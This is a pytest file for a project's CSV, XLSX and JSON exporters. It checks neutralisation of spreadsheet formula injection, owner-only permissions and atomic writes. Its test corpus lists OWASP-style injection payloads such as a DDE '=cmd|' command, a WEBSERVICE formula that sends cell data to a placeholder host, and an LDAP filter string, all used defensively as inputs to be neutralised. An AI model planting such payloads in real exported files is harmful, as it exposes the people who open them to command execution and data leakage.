"""CSV / XLSX / JSON exports: formula-safe, typed, owner-only, atomic."""

from __future__ import annotations

import csv
import json
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from accessaudit.report.exports import (
    FORMULA_TRIGGERS,
    neutralise_cell,
    neutralise_expr,
    spreadsheet_safe,
    write_csv,
    write_json,
    write_xlsx,
)

# (raw, exported) — OWASP CSV injection corpus plus harmless look-alikes
CORPUS = [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
    ('=WEBSERVICE("http://x/?"&A1)', '\'=WEBSERVICE("http://x/?"&A1)'),
    ("+1", "'+1"),
    ("-1+1", "'-1+1"),
    ("-5", "'-5"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"),
    ("\x00=1", "'\x00=1"),
    ("＝1+1", "'＝1+1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("safe", "safe"),
    ("", ""),
    (" =1", " =1"),
    ("a=1", "a=1"),
    ("'=1", "'=1"),
    ("Siân O'Brien", "Siân O'Brien"),
    ("*)(uid=*", "*)(uid=*"),
]
RAW = [raw for raw, _ in CORPUS]
SAFE = [safe for _, safe in CORPUS]


@pytest.mark.parametrize(("raw", "safe"), CORPUS)
def test_neutralise_cell(raw: str, safe: str) -> None:
    assert neutralise_cell(raw) == safe


def test_neutralise_expr_matches_cell() -> None:
    df = pl.DataFrame({"v": [*RAW, None]}, schema={"v": pl.String})
    assert df.select(neutralise_expr("v")).to_series().to_list() == [*SAFE, None]
    assert df.select(neutralise_expr(pl.col("v"))).to_series().to_list() == [*SAFE, None]


def _frame() -> pl.DataFrame:
    n = len(RAW)
    return pl.DataFrame(
        {
            "text": RAW,
            "count": list(range(-5, n - 5)),
            "ratio": [-1.5] * n,
            "flag": [True, False] * (n // 2),
            "keys": [["=a", "b"]] + [["x"]] * (n - 1),
            "when": [datetime(2026, 11, 26, 5, 0, tzinfo=UTC)] * n,
        },
        schema={
            "text": pl.String,
            "count": pl.Int64,
            "ratio": pl.Float64,
            "flag": pl.Boolean,
            "keys": pl.List(pl.String),
            "when": pl.Datetime("us", "UTC"),
        },
    )


def test_spreadsheet_safe_keeps_types() -> None:
    safe = spreadsheet_safe(_frame())
    assert safe.schema == pl.Schema(
        {
            "text": pl.String(),
            "count": pl.Int64(),
            "ratio": pl.Float64(),
            "flag": pl.Boolean(),
            "keys": pl.String(),
            "when": pl.Datetime("us", "UTC"),
        }
    )
    assert safe["text"].to_list() == SAFE
    assert safe["keys"].to_list()[:2] == ["'=a; b", "x"]


def test_write_csv(tmp_path: Path) -> None:
    old = os.umask(0)
    try:
        out = write_csv(_frame(), tmp_path / "actions.csv")
    finally:
        os.umask(old)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["actions.csv"]
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["text", "count", "ratio", "flag", "keys", "when"]
    body = rows[1:]
    assert [r[0] for r in body] == SAFE
    assert [r[1] for r in body] == [str(i) for i in range(-5, len(RAW) - 5)]
    assert body[0][2] == "-1.5"
    assert body[0][4] == "'=a; b"
    assert body[0][5] == "2026-11-26T05:00:00+00:00"
    # no string field starts with a trigger; numeric fields are unquoted numbers
    for r in body:
        for field in (r[0], r[3], r[4], r[5]):
            assert not field or field[0] not in FORMULA_TRIGGERS
    raw_lines = out.read_text(encoding="utf-8-sig").splitlines()
    assert raw_lines[1].startswith("\"'=cmd|' /C calc'!A0\",-5,-1.5,")


def _ooxml(text: str) -> str:
    return "".join(
        f"_x{ord(ch):04X}_" if ord(ch) < 0x20 and ch not in "\t\n" else ch for ch in text
    )


def test_write_xlsx(tmp_path: Path) -> None:
    frame = _frame()
    out = write_xlsx(
        {"Actions/by:org[1]": frame, "x" * 40: frame.head(2), "x" * 31: frame.head(1)},
        tmp_path / "report.xlsx",
    )
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["Actions_by_org_1_", "x" * 31, "x" * 27 + " (2)"]
    formulas = [
        (ws.title, c.coordinate)
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    ws = book["Actions_by_org_1_"]
    values = list(ws.iter_rows(values_only=True))
    assert values[0] == ("text", "count", "ratio", "flag", "keys", "when")
    # openpyxl returns control characters in OOXML's escaped form (Excel shows the character)
    assert [r[0] for r in values[1:]] == [_ooxml(s) for s in SAFE]
    counts = [r[1] for r in values[1:]]
    assert counts == list(range(-5, len(RAW) - 5))
    assert all(isinstance(v, int | float) for v in counts)
    assert values[1][2] == -1.5
    assert values[1][3] is True
    assert values[1][4] == "'=a; b"
    assert values[1][5] == datetime(2026, 11, 26, 5, 0)
    for ws in book.worksheets:
        for row in ws.iter_rows(min_row=2):
            for c in row:
                if isinstance(c.value, str):
                    assert c.data_type == "s"
                    assert c.value[:1] not in FORMULA_TRIGGERS


def test_write_json_raw_and_owner_only(tmp_path: Path) -> None:
    obj = {
        "when": datetime(2026, 11, 26, 5, 0, tzinfo=UTC),
        "name": '=HYPERLINK("http://x","y")',
        "rows": pl.DataFrame({"a": [1, 2]}),
        "path": Path("/x/y"),
    }
    out = write_json(obj, tmp_path / "findings.json")
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert json.loads(out.read_text(encoding="utf-8")) == {
        "when": "2026-11-26T05:00:00+00:00",
        "name": '=HYPERLINK("http://x","y")',  # JSON is data for programs: not neutralised
        "rows": [{"a": 1}, {"a": 2}],
        "path": "/x/y",
    }


def test_write_replaces_atomically(tmp_path: Path) -> None:
    target = tmp_path / "a.json"
    write_json({"v": 1}, target)
    write_json({"v": 2}, target)
    assert json.loads(target.read_text()) == {"v": 2}
    assert [p.name for p in tmp_path.iterdir()] == ["a.json"]
    with pytest.raises(TypeError):
        write_json({"v": object()}, target)
    assert json.loads(target.read_text()) == {"v": 2}
    assert [p.name for p in tmp_path.iterdir()] == ["a.json"]


def test_other_column_types_become_safe_text(tmp_path: Path) -> None:
    df = pl.DataFrame(
        {
            "cat": pl.Series(["=a", "b"], dtype=pl.Categorical),
            "arr": pl.Series([["=x", "y"], ["z", None]], dtype=pl.Array(pl.String, 2)),
            "ints": pl.Series([[-1, 2], None], dtype=pl.List(pl.Int64)),
            "nested": pl.Series([[{"k": "=v"}], []], dtype=pl.List(pl.Struct({"k": pl.String}))),
            "struct": pl.Series([{"k": "v"}, None], dtype=pl.Struct({"k": pl.String})),
            "empty": pl.Series([None, None], dtype=pl.Null),
        }
    )
    safe = spreadsheet_safe(df)
    assert safe.to_dicts() == [
        {
            "cat": "'=a",
            "arr": "'=x; y",
            "ints": "'-1; 2",
            "nested": '{"k": "=v"}',
            "struct": '{"k": "v"}',
            "empty": None,
        },
        {"cat": "b", "arr": "z", "ints": None, "nested": "", "struct": None, "empty": None},
    ]
    book = openpyxl.load_workbook(write_xlsx({"t": df}, tmp_path / "t.xlsx"))
    assert [c.value for c in book["t"][2]] == [
        "'=a",
        "'=x; y",
        "'-1; 2",
        '{"k": "=v"}',
        '{"k": "v"}',
        None,
    ]


def test_demo_run_writes_one_xlsx_sheet_per_owning_force(tmp_path: Path) -> None:
    """The identity teams' workbook: one sheet per organisation that owns actions, each holding
    exactly that organisation's actions (the run's actions table is the reference)."""
    from accessaudit.pipeline.demo import prepare_demo
    from accessaudit.pipeline.run import run_audit

    result = run_audit(prepare_demo(tmp_path, accounts=600, seed=7))
    actions = pl.read_parquet(result.run.path / "actions.parquet")
    book = openpyxl.load_workbook(result.run.path / "actions.xlsx")
    expected = {f"actions-{org}": n for org, n in actions.group_by("owning_org").len().iter_rows()}
    assert {"actions-wmp", "actions-warks"} <= set(expected)
    assert book.sheetnames == [*sorted(expected), "finding keys"]
    for ws in book.worksheets[:-1]:
        assert ws.max_row - 1 == expected[ws.title]  # a header row, then one row per action
        header = [c.value for c in ws[1]]
        org_col = header.index("owning_org")
        assert {row[org_col] for row in ws.iter_rows(min_row=2, values_only=True)} == {
            ws.title.removeprefix("actions-")
        }
